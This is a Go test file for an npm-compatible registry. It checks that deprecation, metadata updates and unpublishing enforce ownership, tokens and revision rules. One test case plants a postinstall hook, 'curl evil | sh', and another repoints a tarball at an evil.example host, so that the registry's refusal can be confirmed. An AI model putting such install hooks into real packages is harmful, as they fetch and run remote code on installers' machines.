package npm

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/trove-dev/trove/internal/server/servertest"
	"github.com/trove-dev/trove/internal/trove"
)

// writeDoc reads a package as npm does before changing it.
func (e *env) writeDoc(name string) map[string]any {
	e.t.Helper()
	return do(e.t, "GET", e.reg+"/"+name+"?write=true", "", nil).want(e.t, 200).json(e.t)
}

func TestDeprecate(t *testing.T) {
	e := newEnv(t, nil)
	tok := e.userToken("alice")
	e.publish(tok, pkgJSONOf("demo", "1.0.0", nil))
	e.publish(tok, pkgJSONOf("demo", "1.1.0", nil))

	// npm deprecate demo@1.0.0 "use 1.1.0": the whole packument comes back.
	doc := e.writeDoc("demo")
	doc["versions"].(map[string]any)["1.0.0"].(map[string]any)["deprecated"] = "use 1.1.0"
	do(t, "PUT", e.reg+"/demo", tok, doc).want(t, 200)
	corgi := do(t, "GET", e.reg+"/demo", "", nil, "Accept", corgiAccept).json(t)
	if get(corgi, "versions", "1.0.0", "deprecated") != "use 1.1.0" || get(corgi, "versions", "1.1.0", "deprecated") != nil {
		t.Errorf("after deprecate: %v", corgi["versions"])
	}
	if get(e.packument("demo"), "versions", "1.0.0", "deprecated") != "use 1.1.0" {
		t.Errorf("full packument lacks the deprecation")
	}

	// npm deprecate demo "" (undeprecate, every version).
	doc = e.writeDoc("demo")
	for _, v := range doc["versions"].(map[string]any) {
		v.(map[string]any)["deprecated"] = ""
	}
	do(t, "PUT", e.reg+"/demo", tok, doc).want(t, 200)
	corgi = do(t, "GET", e.reg+"/demo", "", nil, "Accept", corgiAccept).json(t)
	if get(corgi, "versions", "1.0.0", "deprecated") != nil {
		t.Errorf("after undeprecate: %v", corgi["versions"])
	}

	// Deprecating needs ownership and the yank action.
	doc = e.writeDoc("demo")
	doc["versions"].(map[string]any)["1.1.0"].(map[string]any)["deprecated"] = "pwned"
	do(t, "PUT", e.reg+"/demo", e.userToken("mallory"), doc).want(t, http.StatusForbidden)
	u, _ := e.Users.ByName(ctx, "alice")
	publishOnly := e.Token(t, u, nil, "read", "publish")
	do(t, "PUT", e.reg+"/demo", publishOnly, doc).want(t, http.StatusForbidden)
	do(t, "PUT", e.reg+"/demo", "", doc).want(t, http.StatusUnauthorized)
	if get(e.packument("demo"), "versions", "1.1.0", "deprecated") != nil {
		t.Errorf("a refused deprecation was applied")
	}
}

func TestMetadataUpdateRejects(t *testing.T) {
	e := newEnv(t, nil)
	tok := e.userToken("alice")
	e.publish(tok, pkgJSONOf("demo", "1.0.0", map[string]any{"dependencies": map[string]string{"a": "^1.0.0"}}))
	e.publish(tok, pkgJSONOf("demo", "1.1.0", nil))
	version := func(d map[string]any, v string) map[string]any {
		return d["versions"].(map[string]any)[v].(map[string]any)
	}
	for _, tc := range []struct {
		name   string
		url    string
		mutate func(d map[string]any)
		status int
		want   string
	}{
		{"dependency changed", "/demo", func(d map[string]any) { version(d, "1.0.0")["dependencies"] = map[string]any{"a": "^2.0.0"} }, 400, `"dependencies" differs`},
		{"script added", "/demo", func(d map[string]any) {
			version(d, "1.1.0")["scripts"] = map[string]any{"postinstall": "curl evil | sh"}
		}, 400, `"scripts" differs`},
		{"dist changed", "/demo", func(d map[string]any) {
			version(d, "1.0.0")["dist"].(map[string]any)["tarball"] = "https://evil.example/x.tgz"
		}, 400, `"dist" differs`},
		{"integrity changed", "/demo", func(d map[string]any) {
			version(d, "1.0.0")["dist"].(map[string]any)["integrity"] = "sha512-AAAA"
		}, 400, `"dist" differs`},
		{"version added", "/demo", func(d map[string]any) {
			v := version(d, "1.1.0")
			d["versions"].(map[string]any)["9.9.9"] = v
		}, 400, "has no version 9.9.9"},
		{"version dropped without rev", "/demo", func(d map[string]any) {
			delete(d["versions"].(map[string]any), "1.0.0")
			delete(d, "_rev")
		}, 400, "npm unpublish"},
		{"latest removed", "/demo", func(d map[string]any) { d["dist-tags"] = map[string]any{} }, 400, "latest dist-tag cannot be removed"},
		{"tag at nothing", "/demo", func(d map[string]any) { d["dist-tags"].(map[string]any)["next"] = "5.0.0" }, 400, "not a version of demo"},
		{"bad tag", "/demo", func(d map[string]any) { d["dist-tags"].(map[string]any)["1.x"] = "1.0.0" }, 400, "semver version or range"},
		{"stale rev in body", "/demo", func(d map[string]any) { d["_rev"] = "1-0000000000000000" }, 409, "changed since you read it"},
		{"stale rev in URL", "/demo/-rev/1-0000000000000000", func(d map[string]any) {}, 409, "changed since you read it"},
		{"name differs", "/demo", func(d map[string]any) { d["name"] = "other" }, 400, "differs from the package"},
		{"two maintainers added", "/demo", func(d map[string]any) {
			d["maintainers"] = append(d["maintainers"].([]any), map[string]any{"name": "mallory"}, map[string]any{"name": "eve"})
		}, 400, "one owner at a time"},
		{"every maintainer removed", "/demo", func(d map[string]any) { d["maintainers"] = []any{} }, 400, "at least one owner"},
		{"maintainer without a name", "/demo", func(d map[string]any) {
			d["maintainers"] = append(d["maintainers"].([]any), map[string]any{"email": "x@example.test"})
		}, 400, "a name is missing"},
		{"maintainers and deprecation", "/demo", func(d map[string]any) {
			d["maintainers"] = append(d["maintainers"].([]any), map[string]any{"name": "mallory"})
			version(d, "1.0.0")["deprecated"] = "old"
		}, 400, "request of their own"},
		{"unknown maintainer", "/demo", func(d map[string]any) {
			d["maintainers"] = append(d["maintainers"].([]any), map[string]any{"name": "nobody"})
		}, 404, "no user nobody"},
		{"deprecated not a string", "/demo", func(d map[string]any) { version(d, "1.0.0")["deprecated"] = 5 }, 400, "deprecated must be a string"},
		{"deprecation too long", "/demo", func(d map[string]any) {
			version(d, "1.0.0")["deprecated"] = strings.Repeat("x", MaxDeprecationLen+1)
		}, 400, "longer than"},
		{"versions wrong type", "/demo", func(d map[string]any) { d["versions"] = []any{} }, 400, "versions must be an object"},
		{"unknown package", "/nothing", func(d map[string]any) { d["name"], d["_id"] = "nothing", "nothing" }, 404, "not found"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := e.writeDoc("demo")
			doc := e.writeDoc("demo")
			tc.mutate(doc)
			r := do(t, "PUT", e.reg+tc.url, tok, doc)
			if r.status != tc.status || !strings.Contains(r.errorText(), tc.want) {
				t.Fatalf("PUT = %d %s, want %d containing %q", r.status, r.body, tc.status, tc.want)
			}
			if diff := cmp.Diff(before, e.writeDoc("demo")); diff != "" {
				t.Errorf("a refused update changed the package (-before +after):\n%s", diff)
			}
		})
	}
	// A document with nothing changed is accepted and changes nothing.
	before := e.writeDoc("demo")
	do(t, "PUT", e.reg+"/demo", tok, before).want(t, 200)
	if diff := cmp.Diff(before, e.writeDoc("demo")); diff != "" {
		t.Errorf("an unchanged document changed the package:\n%s", diff)
	}
}

// TestUnpublish follows npm's own requests: one version (PUT -rev, then
// DELETE of the tarball), and every version (DELETE -rev).
func TestUnpublish(t *testing.T) {
	e := newEnv(t, nil)
	tok := e.userToken("alice")
	for _, v := range []string{"1.0.0", "1.1.0", "2.0.0"} {
		e.publish(tok, pkgJSONOf("@acme/demo", v, nil))
	}
	// npm unpublish @acme/demo@2.0.0 (the latest).
	doc := e.writeDoc("@acme%2fdemo")
	rev := doc["_rev"].(string)
	dist := get(doc, "versions", "2.0.0", "dist").(map[string]any)
	delete(doc["versions"].(map[string]any), "2.0.0")
	doc["dist-tags"] = map[string]any{"latest": "1.1.0"}
	do(t, "PUT", e.reg+"/@acme%2fdemo/-rev/"+rev, tok, doc).want(t, 200)
	rev = e.writeDoc("@acme%2fdemo")["_rev"].(string)
	tarballPath := strings.TrimPrefix(dist["tarball"].(string), e.reg)
	do(t, "DELETE", e.reg+tarballPath+"/-rev/"+rev, tok, nil).want(t, 200)

	full := e.packument("@acme/demo")
	if get(full, "versions", "2.0.0") != nil || get(full, "dist-tags", "latest") != "1.1.0" {
		t.Errorf("after unpublishing 2.0.0: versions %v, dist-tags %v", full["versions"], full["dist-tags"])
	}
	do(t, "GET", e.reg+tarballPath, "", nil).want(t, http.StatusNotFound)
	// The version is a tombstone: never published again.
	pj := pkgJSONOf("@acme/demo", "2.0.0", nil)
	r := do(t, "PUT", e.reg+"/@acme%2fdemo", tok, publishDoc(t, e.reg, pj, pkgTgz(t, pj))).want(t, http.StatusConflict)
	if !strings.Contains(r.errorText(), "can never be published again") {
		t.Errorf("republishing a deleted version: %q", r.errorText())
	}
	if rels := e.releases("@acme/demo"); len(rels) != 3 || rels[2].State != trove.Deleted {
		t.Errorf("release rows after unpublish: %d", len(rels))
	}
	// A tarball of a live version is not deleted on its own.
	do(t, "DELETE", e.reg+"/@acme/demo/-/demo-1.0.0.tgz/-rev/"+rev, tok, nil).want(t, http.StatusBadRequest)
	do(t, "DELETE", e.reg+"/@acme/demo/-/demo-2.0.0.tgz/-rev/"+rev, "", nil).want(t, http.StatusUnauthorized)

	// Another user may not unpublish; a stale revision is refused.
	rev = e.writeDoc("@acme%2fdemo")["_rev"].(string)
	do(t, "DELETE", e.reg+"/@acme%2fdemo/-rev/"+rev, e.userToken("mallory"), nil).want(t, http.StatusForbidden)
	do(t, "DELETE", e.reg+"/@acme%2fdemo/-rev/1-0000000000000000", tok, nil).want(t, http.StatusConflict)

	// npm unpublish @acme/demo --force: everything.
	do(t, "DELETE", e.reg+"/@acme%2fdemo/-rev/"+rev, tok, nil).want(t, 200)
	do(t, "GET", e.reg+"/@acme%2fdemo", "", nil).want(t, http.StatusNotFound)
	do(t, "GET", e.reg+"/@acme/demo/-/demo-1.0.0.tgz", "", nil).want(t, http.StatusNotFound)
	// The name stays with its owner: a new version can be published, old ones not.
	e.publish(tok, pkgJSONOf("@acme/demo", "3.0.0", nil))
	pj = pkgJSONOf("@acme/demo", "1.0.0", nil)
	do(t, "PUT", e.reg+"/@acme%2fdemo", tok, publishDoc(t, e.reg, pj, pkgTgz(t, pj))).want(t, http.StatusConflict)
	pj = pkgJSONOf("@acme/demo", "4.0.0", nil)
	do(t, "PUT", e.reg+"/@acme%2fdemo", e.userToken("eve"), publishDoc(t, e.reg, pj, pkgTgz(t, pj))).want(t, http.StatusForbidden)
}

func TestUnpublishWindow(t *testing.T) {
	e := newEnvWith(t, servertest.Options{UnpublishWindow: time.Millisecond}, nil)
	tok := e.userToken("alice")
	e.publish(tok, pkgJSONOf("demo", "1.0.0", nil))
	e.publish(tok, pkgJSONOf("demo", "1.1.0", nil))
	time.Sleep(5 * time.Millisecond)
	doc := e.writeDoc("demo")
	delete(doc["versions"].(map[string]any), "1.1.0")
	doc["dist-tags"] = map[string]any{"latest": "1.0.0"}
	r := do(t, "PUT", e.reg+"/demo/-rev/"+doc["_rev"].(string), tok, doc).want(t, http.StatusForbidden)
	if !strings.Contains(r.errorText(), "deprecate it instead") {
		t.Errorf("unpublish after the window: %q", r.errorText())
	}
	do(t, "DELETE", e.reg+"/demo/-rev/"+doc["_rev"].(string), tok, nil).want(t, http.StatusForbidden)
	if len(get(e.packument("demo"), "versions").(map[string]any)) != 2 {
		t.Errorf("a refused unpublish deleted versions")
	}
	// Administrators may, any time.
	root := e.User(t, "root", true)
	do(t, "DELETE", e.reg+"/demo/-rev/"+doc["_rev"].(string), e.Token(t, root, nil), nil).want(t, http.StatusOK)
	do(t, "GET", e.reg+"/demo", "", nil).want(t, http.StatusNotFound)
}
